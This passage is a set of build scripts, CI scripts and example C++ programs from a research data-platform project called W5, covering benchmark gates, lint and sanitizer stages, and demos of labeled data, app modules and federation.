if base is None or floor is None:
    failures.append("missing baseline (BM_GroupCommitPut/0/8) or "
                    "device floor (BM_RawFsync)")
else:
    limit = factor * (base + 2 * floor)
    print(f"in-memory p99 {base:.0f}us, device fsync p99 {floor:.0f}us "
          f"-> group-commit limit {limit:.0f}us (factor {factor})")
    for threads in (4, 8):
        name = f"BM_GroupCommitPut/3/{threads}"
        got = p99.get(name)
        if got is None:
            failures.append(f"missing {name}")
            continue
        verdict = "ok" if got <= limit else "FAIL"
        print(f"{name}: p99 {got:.0f}us ({verdict})")
        if got > limit:
            failures.append(f"{name}: p99 {got:.0f}us > {limit:.0f}us")

if 4096 not in recovery:
    failures.append("missing BM_Recovery/4096")
else:
    print(f"recovery of 4096-entry WAL: {recovery[4096]:.1f}ms "
          f"(budget {budget_ms:.0f}ms)")
    if recovery[4096] > budget_ms:
        failures.append(f"recovery {recovery[4096]:.1f}ms > {budget_ms}ms")

data["e15_gates"] = {
    "p99_factor": factor,
    "p99_gate": "fsync group-commit p99 <= factor * (inmem p99 + 2*fsync)",
    "recovery_budget_ms": budget_ms,
    "failures": failures,
}
json.dump(data, open(path, "w"), indent=1)
if failures:
    print("FAIL: " + "; ".join(failures))
    sys.exit(1)
print("E15 durability gates passed")
EOF
  annotate_snapshot "$out"
  echo "wrote $out"
  ;;

query)
  # E18: label-aware secondary indexes at 2^20 records. Gates:
  #   - indexed point-query p99 at least W5_QUERY_INDEX_FACTOR (default
  #     10) times faster than the forced predicate scan;
  #   - the §3.5 count channel closed: with quantization on, counts for
  #     populations n and n+1 are identical (quantized_delta == 0) while
  #     the unquantized probe still sees the insert (raw_delta == 1).
  factor="${W5_QUERY_INDEX_FACTOR:-10}"
  build_bench "$build_dir" bench_query
  run_bench "$build_dir" bench_query "$out"
  python3 - "$out" "$factor" <<'EOF'
import json, sys
path, factor = sys.argv[1], float(sys.argv[2])
data = json.load(open(path))
p99 = {}
channel = {}
for b in data.get("benchmarks", []):
    name = b.get("name", "")
    if "p99_us" in b:
        p99[name] = b["p99_us"]
        print(f'{name}: p99 {b["p99_us"]:,.1f}us'
              + (f', {b["rows"]:.0f} rows' if "rows" in b else ""))
    if name.startswith("BM_QuantizedCountChannel"):
        channel = {k: b[k] for k in ("quantized_delta", "raw_delta",
                                     "quantum") if k in b}

failures = []
pairs = [("BM_PointQueryIndexed", "BM_PointQueryScan"),
         ("BM_OwnerQueryIndexed", "BM_OwnerQueryScan"),
         ("BM_DeepPageCursor", "BM_DeepPageOffset")]
speedups = {}
for fast, slow in pairs:
    if fast not in p99 or slow not in p99:
        failures.append(f"missing {fast} or {slow}")
        continue
    ratio = p99[slow] / p99[fast] if p99[fast] > 0 else 0.0
    speedups[f"{fast}_vs_{slow}"] = round(ratio, 1)
    gated = fast == "BM_PointQueryIndexed"
    print(f"{fast} vs {slow}: {ratio:,.1f}x"
          + ("" if gated else " (informational)"))
    if gated and ratio < factor:
        failures.append(
            f"indexed point query only {ratio:.1f}x faster than scan "
            f"(need {factor}x)")

if not channel:
    failures.append("missing BM_QuantizedCountChannel counters")
else:
    print(f"count channel at quantum {channel.get('quantum', 0):.0f}: "
          f"quantized_delta {channel.get('quantized_delta', -1):.0f}, "
          f"raw_delta {channel.get('raw_delta', -1):.0f}")
    if channel.get("quantized_delta") != 0:
        failures.append("quantized count leaked a single-record insert")
    if channel.get("raw_delta") != 1:
        failures.append("raw count probe broken (expected delta 1)")

data["e18_gates"] = {
    "index_speedup_factor": factor,
    "speedups_p99": speedups,
    "count_channel": channel,
    "failures": failures,
}
json.dump(data, open(path, "w"), indent=1)
if failures:
    print("FAIL: " + "; ".join(failures))
    sys.exit(1)
print("E18 query-engine gates passed")
EOF
  annotate_snapshot "$out"
  echo "wrote $out"
  ;;

federation)
  # E16: the metasearch fan-out. Gates:
  #   - cutoff effectiveness: with one peer stalling 20 ms, the
  #     deadline-budgeted partial page beats the full-wait p99 by at
  #     least W5_FED_CUTOFF_FACTOR (default 2);
  #   - every budgeted page degraded (partial_pages == iterations) and
  #     no full-wait page did — the flag is load-bearing, not noise.
  cutoff_factor="${W5_FED_CUTOFF_FACTOR:-2}"
  build_bench "$build_dir" bench_federation
  run_bench "$build_dir" bench_federation "$out"
  python3 - "$out" "$cutoff_factor" <<'EOF'
import json, sys
path, factor = sys.argv[1], float(sys.argv[2])
data = json.load(open(path))
p99 = {}
partial = {}
iters = {}
for b in data.get("benchmarks", []):
    name = b.get("name", "")
    if name.startswith("BM_FanoutLatency/"):
        peers = int(name.rsplit("/", 1)[1])
        print(f"fan-out at {peers} peer(s): p99 {b.get('p99_us', 0):,.0f}us")
    if name.startswith(("BM_CutoffPartial", "BM_CutoffFullWait")):
        key = name.split("/")[0]
        p99[key] = b.get("p99_us", 0.0)
        partial[key] = b.get("partial_pages", 0.0)
        iters[key] = b.get("iterations", 0)

failures = []
budgeted = p99.get("BM_CutoffPartial")
fullwait = p99.get("BM_CutoffFullWait")
if budgeted is None or fullwait is None:
    failures.append("missing BM_CutoffPartial or BM_CutoffFullWait")
else:
    ratio = fullwait / budgeted if budgeted > 0 else 0.0
    print(f"cutoff effectiveness: partial p99 {budgeted:,.0f}us vs "
          f"full-wait p99 {fullwait:,.0f}us ({ratio:.1f}x, need {factor}x)")
    if ratio < factor:
        failures.append(
            f"partial p99 only {ratio:.1f}x better than full-wait "
            f"(need {factor}x)")
    if partial.get("BM_CutoffPartial", 0) < iters.get("BM_CutoffPartial", 1):
        failures.append("budgeted run served non-partial pages "
                        "(cutoff never fired)")
    if partial.get("BM_CutoffFullWait", 0) != 0:
        failures.append("full-wait run unexpectedly degraded to partial")

data["e16_gates"] = {
    "cutoff_factor_budget": factor,
    "partial_p99_us": budgeted,
    "fullwait_p99_us": fullwait,
    "failures": failures,
}
json.dump(data, open(path, "w"), indent=1)
if failures:
    print("FAIL: " + "; ".join(failures))
    sys.exit(1)
print("E16 federation gates passed")
EOF
  annotate_snapshot "$out"
  echo "wrote $out"
  ;;

*)
  # Any other suite: run bench_<suite> as-is and annotate.
  build_bench "$build_dir" "bench_${suite}"
  run_bench "$build_dir" "bench_${suite}" "$out"
  annotate_snapshot "$out"
  echo "wrote $out"
  ;;
esac
