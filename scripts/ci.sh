#!/usr/bin/env bash
# The one-command verification gate: tier-1 build + tests, then the
# sanitizer matrix (scripts/run_sanitizers.sh).
#
#   scripts/ci.sh            # build + lint + ctest + durability + bench + sanitizers
#   scripts/ci.sh fast       # build + lint + ctest + durability (no bench/sanitizers)
#   scripts/ci.sh durability # build + crash-matrix/recovery stage only
#   scripts/ci.sh lint       # build w5lint + static checks only
#   scripts/ci.sh bench      # build + concurrency smoke + E18 query gates only
#
# clang-tidy (.clang-tidy: bugprone-*, concurrency-*,
# performance-unnecessary-value-param) runs as a gated lint leg against
# the exported compilation database (build/compile_commands.json) when
# the binary is on PATH; on the GCC-only container it skips loudly.
#
# Exits non-zero on the first failing stage, so it can anchor any real CI
# job as-is.
set -euo pipefail
cd "$(dirname "$0")/.."

leg="${1:-all}"
jobs="$(nproc 2>/dev/null || echo 4)"

echo "== Tier-1: build =="
cmake -B build -S . >/dev/null
cmake --build build -j "$jobs"

lint_stage() {
  echo "== Lint: w5lint (layering / perimeter / telemetry / banned) =="
  # Frozen include DAG, §3.1 perimeter rules, §3.5 telemetry rule, banned
  # functions — DESIGN.md §14. Fails the run on the first violation.
  cmake --build build -j "$jobs" --target w5lint >/dev/null
  ./build/tools/w5lint src --allowlist tools/w5lint_allow.txt

  echo "== Lint: w5flow (DIFC taint + lock order) =="
  # Pass 1: no record-derived bytes reach a log/metrics/trace/egress
  # sink uncleansed. Pass 2: the extracted lock-acquisition graph is
  # acyclic and every edge respects tools/w5flow_lock_order.txt, which
  # itself must match src/util/lock_ranks.h and the declared mutexes —
  # DESIGN.md §19.
  cmake --build build -j "$jobs" --target w5flow >/dev/null
  ./build/tools/w5flow src --lock-order tools/w5flow_lock_order.txt

  echo "== Lint: clang-tidy over compile_commands.json =="
  # Gate on the binary being present rather than failing the GCC-only
  # container; the compilation database is exported unconditionally
  # (CMAKE_EXPORT_COMPILE_COMMANDS in the top-level CMakeLists).
  if command -v clang-tidy >/dev/null 2>&1; then
    if [[ ! -f build/compile_commands.json ]]; then
      echo "ci: build/compile_commands.json missing — reconfigure" >&2
      exit 1
    fi
    find src -name '*.cpp' -print0 |
      xargs -0 -n 8 -P "$jobs" clang-tidy -p build --quiet \
        --warnings-as-errors='*'
    echo "ci: clang-tidy clean"
  else
    echo "ci: SKIPPED clang-tidy leg — clang-tidy not on PATH" >&2
    echo "ci: (run this leg on a clang host; config is .clang-tidy)" >&2
  fi

  echo "== Lint: clang -Werror=thread-safety =="
  # The W5_* annotations (src/util/thread_annotations.h) are only checked
  # by Clang's Thread Safety Analysis; under GCC they compile to nothing.
  # Gate on the compiler actually being present rather than failing a
  # GCC-only container.
  if command -v clang++ >/dev/null 2>&1; then
    cmake -B build-tsa -S . -DCMAKE_CXX_COMPILER=clang++ \
      -DCMAKE_CXX_FLAGS="-Werror=thread-safety" >/dev/null
    cmake --build build-tsa -j "$jobs" --target \
      w5_util w5_difc w5_net w5_os w5_rank w5_store w5_core w5_fed w5_apps
    echo "ci: thread-safety analysis clean"
  else
    echo "ci: SKIPPED clang thread-safety leg — clang++ not on PATH" >&2
    echo "ci: (annotations are unchecked no-ops under GCC; run this leg on a clang host)" >&2
  fi
}

durability_stage() {
  echo "== Durability: crash matrix + recovery (DESIGN.md §13) =="
  # Every WAL frame boundary ±1 byte, plus the WAL/snapshot/provider
  # recovery suites — the plug-pull guarantees, explicitly reported.
  ./build/tests/w5_tests \
    --gtest_filter='WalTest.*:SnapshotTest.*:DurabilityProviderTest.*:CrashMatrixTest.*' \
    --gtest_brief=1

  echo "== Durability: recovery smoke under ASan =="
  cmake -B build-asan -S . -DW5_SANITIZE=address,undefined >/dev/null
  cmake --build build-asan -j "$jobs" --target w5_tests
  ASAN_OPTIONS="detect_leaks=1" \
    LSAN_OPTIONS="suppressions=scripts/lsan.supp:print_suppressions=0" \
    UBSAN_OPTIONS="halt_on_error=1" \
    ./build-asan/tests/w5_tests \
    --gtest_filter='CrashMatrixTest.*:DurabilityProviderTest.*' \
    --gtest_brief=1
}

bench_stage() {
  echo "== Bench smoke: concurrency suite -> BENCH_concurrency.json =="
  # E12/E12b/E12c: in-process scalability, TCP reactor-vs-pooled
  # head-to-head, and the idle keep-alive CPU sweep. Emits
  # BENCH_concurrency.json at the repo root (timings + the conn_* and
  # cpu_core_pct counters in metrics_snapshot) for cross-commit diffing.
  scripts/bench_json.sh concurrency

  echo "== Bench gate: query engine -> BENCH_query.json =="
  # E18: indexed point queries >= 10x faster than forced scans at 2^20
  # records, and the quantized count channel verifiably closed.
  scripts/bench_json.sh query

  echo "== Bench gate: federated metasearch -> BENCH_federation.json =="
  # E16: fan-out latency vs peer count, and the slowest-peer cutoff —
  # partial results under one slow peer beat the full-wait p99 by >= 2x.
  scripts/bench_json.sh federation
}

if [[ "$leg" == "durability" ]]; then
  durability_stage
  echo "ci: durability stage passed"
  exit 0
fi

if [[ "$leg" == "bench" ]]; then
  bench_stage
  echo "ci: bench stage passed"
  exit 0
fi

lint_stage
if [[ "$leg" == "lint" ]]; then
  echo "ci: lint stage passed"
  exit 0
fi

echo "== Tier-1: tests =="
(cd build && ctest --output-on-failure -j "$jobs")

echo "== Chaos: fault-injection + robustness suites =="
# Redundant with ctest above but cheap, and keeps the deterministic
# chaos suites an explicitly named stage a CI job can report on.
./build/tests/w5_tests --gtest_filter='*FaultInjection*:*NetRobustness*' \
  --gtest_brief=1

durability_stage

if [[ "$leg" != "fast" ]]; then
  bench_stage
  scripts/run_sanitizers.sh
fi

echo "ci: all stages passed"
