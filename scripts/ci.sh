#!/usr/bin/env bash
# The one-command verification gate: tier-1 build + tests, then the
# sanitizer matrix (scripts/run_sanitizers.sh).
#
#   scripts/ci.sh            # build + ctest + durability + TSan + ASan/UBSan
#   scripts/ci.sh fast       # build + ctest + durability (no sanitizers)
#   scripts/ci.sh durability # build + crash-matrix/recovery stage only
#
# Exits non-zero on the first failing stage, so it can anchor any real CI
# job as-is.
set -euo pipefail
cd "$(dirname "$0")/.."

leg="${1:-all}"
jobs="$(nproc 2>/dev/null || echo 4)"

echo "== Tier-1: build =="
cmake -B build -S . >/dev/null
cmake --build build -j "$jobs"

durability_stage() {
  echo "== Durability: crash matrix + recovery (DESIGN.md §13) =="
  # Every WAL frame boundary ±1 byte, plus the WAL/snapshot/provider
  # recovery suites — the plug-pull guarantees, explicitly reported.
  ./build/tests/w5_tests \
    --gtest_filter='WalTest.*:SnapshotTest.*:DurabilityProviderTest.*:CrashMatrixTest.*' \
    --gtest_brief=1

  echo "== Durability: recovery smoke under ASan =="
  cmake -B build-asan -S . -DW5_SANITIZE=address,undefined >/dev/null
  cmake --build build-asan -j "$jobs" --target w5_tests
  ASAN_OPTIONS="detect_leaks=0" UBSAN_OPTIONS="halt_on_error=1" \
    ./build-asan/tests/w5_tests \
    --gtest_filter='CrashMatrixTest.*:DurabilityProviderTest.*' \
    --gtest_brief=1
}

if [[ "$leg" == "durability" ]]; then
  durability_stage
  echo "ci: durability stage passed"
  exit 0
fi

echo "== Tier-1: tests =="
(cd build && ctest --output-on-failure -j "$jobs")

echo "== Chaos: fault-injection + robustness suites =="
# Redundant with ctest above but cheap, and keeps the deterministic
# chaos suites an explicitly named stage a CI job can report on.
./build/tests/w5_tests --gtest_filter='*FaultInjection*:*NetRobustness*' \
  --gtest_brief=1

durability_stage

if [[ "$leg" != "fast" ]]; then
  scripts/run_sanitizers.sh
fi

echo "ci: all stages passed"
