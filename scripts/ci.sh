#!/usr/bin/env bash
# The one-command verification gate: tier-1 build + tests, then the
# sanitizer matrix (scripts/run_sanitizers.sh).
#
#   scripts/ci.sh            # build + ctest + TSan + ASan/UBSan
#   scripts/ci.sh fast       # build + ctest only
#
# Exits non-zero on the first failing stage, so it can anchor any real CI
# job as-is.
set -euo pipefail
cd "$(dirname "$0")/.."

leg="${1:-all}"
jobs="$(nproc 2>/dev/null || echo 4)"

echo "== Tier-1: build =="
cmake -B build -S . >/dev/null
cmake --build build -j "$jobs"

echo "== Tier-1: tests =="
(cd build && ctest --output-on-failure -j "$jobs")

echo "== Chaos: fault-injection + robustness suites =="
# Redundant with ctest above but cheap, and keeps the deterministic
# chaos suites an explicitly named stage a CI job can report on.
./build/tests/w5_tests --gtest_filter='*FaultInjection*:*NetRobustness*' \
  --gtest_brief=1

if [[ "$leg" != "fast" ]]; then
  scripts/run_sanitizers.sh
fi

echo "ci: all stages passed"
