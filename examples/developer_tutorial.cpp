// Developer tutorial: everything a third-party developer does on W5.
//
//   1. write a module against the AppContext API (the only handle you get),
//   2. register it (open-source, so users can audit the fingerprint),
//   3. acquire a user: the user just checks a box (one policy POST —
//      no data migration, the paper's low barrier-to-entry),
//   4. someone forks your module and improves it; your users can switch
//      (or pin your version) without moving a byte of data,
//   5. watch your module's standing in /search grow with adoption,
//   6. debug failures through the scrubbed /dev-stats channel.
#include <iostream>

#include "core/app_context.h"
#include "core/gateway.h"
#include "core/provider.h"

using w5::net::HttpResponse;
using w5::net::Method;
using w5::platform::AppContext;
using w5::platform::Module;

namespace {

// Step 1: the module. A tiny "word count" over the user's blog posts.
HttpResponse wordcount_handler(AppContext& ctx) {
  auto posts = ctx.query("posts",
                         w5::store::QueryOptions{.owner = ctx.viewer()});
  if (!posts.ok()) return HttpResponse::text(500, posts.error().code);
  std::size_t words = 0;
  for (const auto& record : posts.value()) {
    const std::string& text = record.data.at("text").as_string();
    bool in_word = false;
    for (char c : text) {
      const bool is_space = c == ' ' || c == '\n' || c == '\t';
      if (!is_space && !in_word) ++words;
      in_word = !is_space;
    }
  }
  w5::util::Json body;
  body["user"] = ctx.viewer();
  body["posts"] = posts.value().size();
  body["words"] = words;
  return HttpResponse::json(200, body.dump());
}

}  // namespace

int main() {
  w5::util::WallClock clock;
  w5::platform::Provider provider(w5::platform::ProviderConfig{}, clock);

  // Step 2: register. Open source => auditable fingerprint + forkable.
  Module wordcount;
  wordcount.developer = "you";
  wordcount.name = "wordcount";
  wordcount.version = "1.0";
  wordcount.manifest.description = "counts words across your blog posts";
  wordcount.manifest.open_source = true;
  wordcount.manifest.source = "wordcount_handler source v1.0";
  wordcount.handler = wordcount_handler;
  (void)provider.modules().add(wordcount);
  std::cout << "registered you/wordcount@1.0, fingerprint "
            << provider.modules().resolve("you", "wordcount")->fingerprint
                   .substr(0, 16)
            << "...\n";

  // Step 3: a user adopts it — zero data migration.
  (void)provider.signup("bob", "password");
  const std::string bob = provider.login("bob", "password").value();
  provider.http(Method::kPost, "/data/posts/1",
                R"({"title":"one","text":"hello labeled world"})", bob);
  provider.http(Method::kPost, "/data/posts/2",
                R"({"title":"two","text":"information flows downhill only"})",
                bob);
  const auto count =
      provider.http(Method::kGet, "/dev/you/wordcount", "", bob);
  std::cout << "bob's wordcount: " << count.body << "\n";

  // Step 4: a rival forks you and ships a "better" version; bob pins
  // yours (§2: 'I want to use version X.Y').
  auto fork = provider.modules().fork("you/wordcount@1.0", "rival",
                                      "wordcount2");
  std::cout << "rival forked you: " << fork.value()->id() << " (imports "
            << fork.value()->manifest.imports.back() << ")\n";
  provider.http(Method::kPost, "/policy",
                R"({"version_pins":{"you/wordcount":"1.0"}})", bob);

  // Step 5: standing in code search.
  for (int i = 0; i < 10; ++i)
    (void)provider.http(Method::kGet, "/dev/you/wordcount", "", bob);
  const auto search = provider.http(Method::kGet, "/search?q=wordcount");
  std::cout << "search results: " << search.body << "\n";

  // Step 6: debugging without core dumps (§3.5).
  Module broken = wordcount;
  broken.version = "1.1";
  broken.handler = [](AppContext&) -> HttpResponse {
    throw std::runtime_error("null deref while holding bob's secrets");
  };
  (void)provider.modules().add(broken);
  (void)provider.http(Method::kGet, "/dev/you/wordcount?version=1.1", "",
                      bob);
  const auto stats =
      provider.http(Method::kGet, "/dev-stats?app=you/wordcount@1.1");
  std::cout << "your crash dashboard (scrubbed): " << stats.body << "\n";
  return 0;
}
