// The paper's §3.1 social-network scenario, end to end:
// "a social networking application should be able to show Bob's profile
// to Alice but not to Charlie" — with the app containing no access
// control at all. Bob's friend-list *declassifier* draws the line.
//
// Also demonstrates the chameleon profile (§2) and the recommendation
// digest (§2) over commingled friend data.
#include <iostream>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

using w5::net::Method;

namespace {

void show(const std::string& who, const w5::net::HttpResponse& response) {
  std::cout << "  " << who << " -> " << response.status << " "
            << response.body.substr(0, 120) << "\n";
}

}  // namespace

int main() {
  w5::util::WallClock clock;
  w5::platform::Provider provider(w5::platform::ProviderConfig{}, clock);
  w5::apps::register_standard_apps(provider);

  std::map<std::string, std::string> session;
  for (const char* user : {"bob", "alice", "charlie"}) {
    (void)provider.signup(user, "password");
    session[user] = provider.login(user, "password").value();
    provider.http(Method::kPost, "/policy",
                  R"({"declassifier":"std/friends",
                      "write_grants":["socialco/social"]})",
                  session[user]);
  }

  std::cout << "== bob builds his profile and friends alice ==\n";
  provider.http(Method::kPost, "/dev/socialco/social/update",
                R"({"name":"Bob","interests":["sci-fi","hiking"],
                    "hide":{"sci-fi":["alice"]}})",
                session["bob"]);
  provider.http(Method::kPost, "/dev/socialco/social/befriend?friend=alice",
                "", session["bob"]);

  std::cout << "== who can see bob's profile? ==\n";
  show("bob    ", provider.http(Method::kGet,
                                "/dev/socialco/social/profile?user=bob", "",
                                session["bob"]));
  show("alice  ", provider.http(Method::kGet,
                                "/dev/socialco/social/profile?user=bob", "",
                                session["alice"]));
  show("charlie", provider.http(Method::kGet,
                                "/dev/socialco/social/profile?user=bob", "",
                                session["charlie"]));

  std::cout << "== the chameleon profile hides sci-fi from alice only ==\n";
  show("alice  ", provider.http(Method::kGet,
                                "/dev/chameleonco/chameleon?user=bob", "",
                                session["alice"]));
  show("bob    ", provider.http(Method::kGet, "/dev/chameleonco/chameleon",
                                "", session["bob"]));

  std::cout << "== alice posts content; bob gets a private digest ==\n";
  provider.http(Method::kPost, "/policy",
                R"({"declassifier":"std/friends",
                    "write_grants":["photoco/photos","blogco/blog",
                                    "socialco/social"]})",
                session["alice"]);
  provider.http(Method::kPost, "/dev/photoco/photos/upload?id=a1",
                R"({"title":"alpine hiking","caption":"","rating":5,
                    "pixels":[]})",
                session["alice"]);
  provider.http(Method::kPost, "/dev/socialco/social/befriend?friend=bob",
                "", session["alice"]);
  show("bob digest    ",
       provider.http(Method::kGet, "/dev/recsys/digest", "", session["bob"]));
  show("charlie digest",
       provider.http(Method::kGet, "/dev/recsys/digest", "",
                     session["charlie"]));

  std::cout << "== audit trail ==\n";
  std::cout << "  exports allowed: "
            << provider.audit().count(
                   w5::platform::AuditKind::kExportAllowed)
            << ", blocked: "
            << provider.audit().count(
                   w5::platform::AuditKind::kExportBlocked)
            << "\n";
  return 0;
}
