// Quickstart: the smallest end-to-end W5 session.
//
//   1. stand up a provider,
//   2. sign up a user and log in (cookie session),
//   3. upload private data through the platform front door,
//   4. run a developer-contributed app over it,
//   5. watch the security perimeter block everyone else.
//
// Build & run:  cmake -B build -G Ninja && cmake --build build
//               ./build/examples/example_quickstart
#include <iostream>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

using w5::net::Method;

int main() {
  w5::util::WallClock clock;
  w5::platform::Provider provider(w5::platform::ProviderConfig{}, clock);
  w5::apps::register_standard_apps(provider);

  // --- Sign up and log in over the HTTP surface -----------------------------
  provider.http(Method::kPost, "/signup", "user=bob&password=hunter2");
  const auto login =
      provider.http(Method::kPost, "/login", "user=bob&password=hunter2");
  // The Set-Cookie header carries the session; Provider::http takes the
  // raw token for convenience.
  const std::string session = provider.login("bob", "hunter2").value();
  std::cout << "login: " << login.status << " " << login.body << "\n";

  // --- Bob uploads a photo (labeled {sec(bob)} / {wp(bob)} automatically) ---
  const auto upload = provider.http(
      Method::kPost, "/data/photos/p1",
      R"({"title":"bob's holiday","caption":"private!","rating":5,
          "pixels":["abc","def"]})",
      session);
  std::cout << "upload: " << upload.status << "\n";

  // --- Bob grants the photo app write access and uses it --------------------
  provider.http(Method::kPost, "/policy",
                R"({"write_grants":["photoco/photos"]})", session);
  const auto list =
      provider.http(Method::kGet, "/dev/photoco/photos/list", "", session);
  std::cout << "bob's photo list: " << list.status << " " << list.body
            << "\n";

  // --- Anyone else (or anonymous) is stopped at the perimeter ---------------
  const auto blocked =
      provider.http(Method::kGet, "/dev/photoco/photos/view?id=p1&user=bob");
  std::cout << "anonymous view attempt: " << blocked.status << " "
            << blocked.body << "\n";

  const auto stats = provider.http(Method::kGet, "/stats");
  std::cout << "provider stats: " << stats.body << "\n";
  return blocked.status == 403 && list.status == 200 ? 0 : 1;
}
