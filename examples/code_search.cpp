// §3.2: identifying suitable software. Builds the dependency graph from
// the modules registered on a provider (imports + fork edges), runs
// PageRank, folds in editor endorsements and popularity, and answers a
// user's search.
#include <iomanip>
#include <iostream>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"
#include "rank/search.h"

int main() {
  w5::util::WallClock clock;
  w5::platform::Provider provider(w5::platform::ProviderConfig{}, clock);
  w5::apps::register_standard_apps(provider);

  // A few forks so the graph has interesting structure (§2: forking).
  (void)provider.modules().fork("photoco/photos@1.0", "devB", "photoplus");
  (void)provider.modules().fork("blogco/blog@1.0", "devC", "microblog");

  // Dependency graph from manifests.
  w5::rank::DependencyGraph graph;
  for (const auto* module : provider.modules().all()) {
    graph.add_node(module->id());
    for (const auto& import : module->manifest.imports)
      graph.add_edge(module->id(), import, w5::rank::DependencyKind::kImport);
  }

  // Editors and popularity (mined from usage in a real deployment).
  w5::rank::EditorBoard editors;
  editors.endorse("w5-weekly", "recsys/digest@1.0", 0.9);
  editors.endorse("w5-weekly", "photoco/photos@1.0", 0.8);
  editors.credit("w5-weekly", 25);
  w5::rank::PopularityTracker popularity;
  popularity.record_use("photoco/photos@1.0", 500);
  popularity.record_use("blogco/blog@1.0", 200);
  popularity.record_use("devB/photoplus@1.0", 40);

  w5::rank::CodeSearch search(graph, editors, popularity);
  for (const auto* module : provider.modules().all())
    search.add_entry({module->id(), module->manifest.description});
  search.refresh();

  const auto print_hits = [&](const std::string& query) {
    std::cout << "search \"" << query << "\":\n";
    for (const auto& hit : search.search(query, 5)) {
      std::cout << "  " << std::left << std::setw(28) << hit.module_id
                << " score=" << std::fixed << std::setprecision(3)
                << hit.score << " (rank=" << hit.pagerank_score
                << " editors=" << hit.editor_score
                << " popularity=" << hit.popularity_score << ")\n";
    }
  };
  print_hits("photo");
  print_hits("blog");
  print_hits("");

  // The paper's claim: widely-imported modules surface first.
  const auto ranked = w5::rank::pagerank(graph).ranked(graph);
  std::cout << "top pagerank: " << ranked.front().first << "\n";
  return 0;
}
