// Multiple W5 providers (§3.3): bob links accounts on providerA and
// providerB; import/export declassifiers mirror his data both ways;
// concurrent edits converge deterministically.
#include <iostream>

#include "fed/node.h"

using w5::fed::Node;

namespace {

void show_record(const char* where, w5::platform::Provider& provider) {
  auto record =
      provider.store().get(w5::os::kKernelPid, "photos", "p1");
  if (record.ok()) {
    std::cout << "  " << where << ": " << record.value().data.dump() << "\n";
  } else {
    std::cout << "  " << where << ": (absent)\n";
  }
}

}  // namespace

int main() {
  w5::util::WallClock clock;
  w5::net::InMemoryNetwork internet;
  w5::platform::Provider provider_a({.name = "providerA"}, clock);
  w5::platform::Provider provider_b({.name = "providerB"}, clock);
  Node node_a("providerA", provider_a, internet);
  Node node_b("providerB", provider_b, internet);

  (void)provider_a.signup("bob", "password");
  (void)provider_b.signup("bob", "password");
  (void)provider_a.signup("amy", "password");

  std::cout << "== bob authorizes the mirror declassifiers on both sides ==\n";
  node_a.mirrors().authorize("bob", "providerB");
  node_b.mirrors().authorize("bob", "providerA");

  w5::util::Json photo;
  photo["title"] = "written on A";
  (void)node_a.put_user_record("bob", "photos", "p1", photo);
  w5::util::Json amys;
  amys["note"] = "amy never authorized mirroring";
  (void)node_a.put_user_record("amy", "notes", "n1", amys);

  std::cout << "== before sync ==\n";
  show_record("providerA", provider_a);
  show_record("providerB", provider_b);

  auto stats = node_b.sync_from("providerA");
  std::cout << "== providerB pulls from providerA ==\n";
  if (stats.ok()) {
    std::cout << "  offered=" << stats.value().offered
              << " applied=" << stats.value().applied
              << " conflicts=" << stats.value().conflicts << "\n";
  }
  show_record("providerA", provider_a);
  show_record("providerB", provider_b);
  std::cout << "  amy's note on B: "
            << (provider_b.store()
                        .get(w5::os::kKernelPid, "notes", "n1")
                        .ok()
                    ? "PRESENT (bug!)"
                    : "absent, as consent requires")
            << "\n";

  std::cout << "== concurrent edits on both providers, then resync ==\n";
  w5::util::Json edit_a;
  edit_a["title"] = "edited on A";
  (void)node_a.put_user_record("bob", "photos", "p1", edit_a);
  w5::util::Json edit_b;
  edit_b["title"] = "edited on B";
  (void)node_b.put_user_record("bob", "photos", "p1", edit_b);
  (void)node_b.sync_from("providerA");
  (void)node_a.sync_from("providerB");
  show_record("providerA", provider_a);
  show_record("providerB", provider_b);

  const auto a = provider_a.store().get(w5::os::kKernelPid, "photos", "p1");
  const auto b = provider_b.store().get(w5::os::kKernelPid, "photos", "p1");
  const bool converged =
      a.ok() && b.ok() && a.value().data.dump() == b.value().data.dump();
  std::cout << (converged ? "replicas converged" : "DIVERGED (bug!)") << "\n";
  return converged ? 0 : 1;
}
