// A real W5 provider on a TCP port — poke it with curl.
//
//   ./build/examples/example_w5_server 8080 &
//   curl -c jar -X POST -d 'user=bob&password=pw123' http://127.0.0.1:8080/signup
//   curl -c jar -X POST -d 'user=bob&password=pw123' http://127.0.0.1:8080/login
//   curl -b jar -X POST -d '{"title":"hi"}' http://127.0.0.1:8080/data/photos/p1
//   curl -b jar http://127.0.0.1:8080/data/photos/p1
//   curl        http://127.0.0.1:8080/data/photos/p1     # 403: perimeter
//
// With no arguments it runs a self-test: serves one loopback request and
// exits (so the binary is CI-friendly).
#include <iostream>
#include <thread>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"
#include "net/http_client.h"
#include "net/http_server.h"
#include "net/tcp.h"

using w5::net::Method;

int main(int argc, char** argv) {
  w5::util::WallClock clock;
  w5::platform::Provider provider(w5::platform::ProviderConfig{}, clock);
  w5::apps::register_standard_apps(provider);

  const bool serve_forever = argc > 1;
  const std::uint16_t port =
      serve_forever ? static_cast<std::uint16_t>(std::atoi(argv[1])) : 0;

  w5::net::TcpListener listener;
  if (auto status = listener.listen(port); !status.ok()) {
    std::cerr << "listen failed: " << status.error().detail << "\n";
    return 1;
  }
  std::cout << "W5 provider listening on 127.0.0.1:" << listener.port()
            << "\n";

  if (serve_forever) {
    // Concurrent serving on the provider's worker pool.
    provider.serve(listener);
    return 0;
  }

  // Self-test mode: one request over real sockets, still via the pool.
  std::thread server_thread([&] { provider.serve(listener); });
  auto client = w5::net::tcp_connect(listener.port());
  if (!client.ok()) {
    std::cerr << "connect failed\n";
    return 1;
  }
  w5::net::HttpRequest request;
  request.method = Method::kGet;
  request.target = "/stats";
  request.parsed = *w5::net::parse_request_target("/stats");
  request.headers.set("Connection", "close");
  w5::net::HttpClient http_client;
  auto response = http_client.roundtrip(*client.value(), request);
  client.value()->close();
  listener.close();  // unblocks the accept loop
  (void)w5::net::tcp_connect(listener.port());  // poke a blocked accept()
  server_thread.join();
  if (!response.ok()) {
    std::cerr << "self-test failed: " << response.error().code << "\n";
    return 1;
  }
  std::cout << "self-test GET /stats -> " << response.value().status << " "
            << response.value().body << "\n";
  return response.value().status == 200 ? 0 : 1;
}
