// The §4 mashup argument, executable.
//
// Today (MyYahoo + Google Maps): the mashup must send address data to the
